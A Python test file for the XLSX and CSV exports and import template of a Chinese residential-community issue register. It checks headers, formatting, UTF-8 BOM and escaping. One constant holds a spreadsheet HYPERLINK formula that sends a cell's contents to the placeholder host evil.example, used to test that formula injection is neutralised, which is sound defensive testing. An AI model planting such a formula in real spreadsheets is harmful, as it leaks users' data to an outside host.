"""The 议题台账 exported as XLSX and CSV, and the import template."""
from __future__ import annotations

import csv
import io

import openpyxl

from deliberation.exports.register import (
    REGISTER_COLUMNS, register_csv, register_template_xlsx, register_xlsx,
)
from deliberation.model.defaults import PRIORITIES
from deliberation.model.lifecycle import STAGE_LABELS

HEADERS = [header for _, header in REGISTER_COLUMNS]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def issue(**changes) -> dict:
    row = {
        "title": "车位不足", "category": "停车", "stage": "民主议事", "raised_by": "业主委员会",
        "channel": "会上提出", "raised_on": "2024-03-12", "building": "地面停车场", "priority": "高",
        "description": "晚间车位紧张,消防通道被占。", "public_summary": "", "resolved_level": "",
        "resolved_on": "", "closed_reason": "", "households": 12,
    }
    row.update(changes)
    return row


def sheet(data: bytes, title: str = "议题台账"):
    return openpyxl.load_workbook(io.BytesIO(data))[title]


def csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_register_columns_are_the_fourteen_agreed_keys_in_order():
    assert [key for key, _ in REGISTER_COLUMNS] == [
        "title", "category", "stage", "raised_by", "channel", "raised_on", "building", "priority",
        "description", "public_summary", "resolved_level", "resolved_on", "closed_reason", "households",
    ]
    assert HEADERS[:6] == ["标题", "类别", "阶段", "提出方", "渠道", "提出日期"]


def test_xlsx_has_a_bold_frozen_header_on_a_sheet_called_yiti_taizhang():
    ws = sheet(register_xlsx([issue()]))
    assert [cell.value for cell in ws[1]] == HEADERS
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= 20          # 标题 is wide enough to read
    assert ws.column_dimensions["I"].width >= 40          # so is 问题描述


def test_xlsx_rows_hold_the_values_given_with_households_as_a_number():
    ws = sheet(register_xlsx([issue(), issue(title="高空抛物", households=None)]))
    rows = [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert rows[0][0] == "车位不足" and rows[0][-1] == 12
    assert rows[1][0] == "高空抛物" and rows[1][-1] in ("", None)
    assert len(rows) == 2


def test_an_empty_register_is_still_a_valid_xlsx_with_its_header():
    ws = sheet(register_xlsx([]))
    assert [cell.value for cell in ws[1]] == HEADERS
    assert ws.max_row == 1


def test_a_formula_in_a_cell_is_neutralised_in_the_xlsx():
    ws = sheet(register_xlsx([issue(title=INJECTION, description="+1 反映", building="@3栋")]))
    title, description, building = ws["A2"], ws["I2"], ws["G2"]
    assert title.value == "'" + INJECTION and title.data_type == "s"
    assert description.value == "'+1 反映"
    assert building.value == "'@3栋"


def test_csv_starts_with_a_bom_so_excel_reads_it_as_utf8():
    data = register_csv([issue()])
    assert data.startswith(b"\xef\xbb\xbf")
    table = csv_table(data)
    assert table[0] == HEADERS
    assert table[1][:3] == ["车位不足", "停车", "民主议事"]
    assert table[1][-1] == "12"


def test_a_formula_in_a_cell_is_neutralised_in_the_csv():
    table = csv_table(register_csv([issue(title=INJECTION, closed_reason="-重复", priority="\t高")]))
    row = dict(zip(HEADERS, table[1]))
    assert row["标题"] == "'" + INJECTION
    assert row["关闭原因"] == "'-重复"
    assert row["优先级"] == "'\t高"


def test_csv_keeps_commas_quotes_and_line_breaks_inside_one_cell():
    text = '3栋,"电梯"\n经常停运'
    assert csv_table(register_csv([issue(description=text)]))[1][8] == text


def test_the_template_has_the_header_and_one_example_row_marked_as_example():
    ws = sheet(register_template_xlsx())
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0] == HEADERS
    assert len(rows) == 2
    assert rows[1][0] == "示例:3栋地下车库照明不足"
    assert ws.freeze_panes == "A2"


def test_the_template_notes_list_stages_priorities_and_the_date_format():
    notes = sheet(register_template_xlsx(), "说明")
    text = "\n".join(str(v) for row in notes.iter_rows(values_only=True) for v in row if v)
    for label in STAGE_LABELS.values():
        assert label in text
    for label in PRIORITIES.values():
        assert label in text
    assert "YYYY-MM-DD" in text
    assert "提出日期" in text           # the required columns are named


def test_the_template_lists_the_compounds_own_categories_and_seats_when_given():
    data = register_template_xlsx(categories=("停车", "宠物/不文明养宠"), seats=("物业服务企业", "业主委员会"))
    notes = {row[0]: row[1] for row in sheet(data, "说明").iter_rows(min_row=2, values_only=True)}
    assert notes["类别"] == "停车、宠物/不文明养宠"
    assert notes["协商主体"] == "物业服务企业、业主委员会"
    assert sheet(data)["B2"].value == "停车"   # the example uses a category the compound has
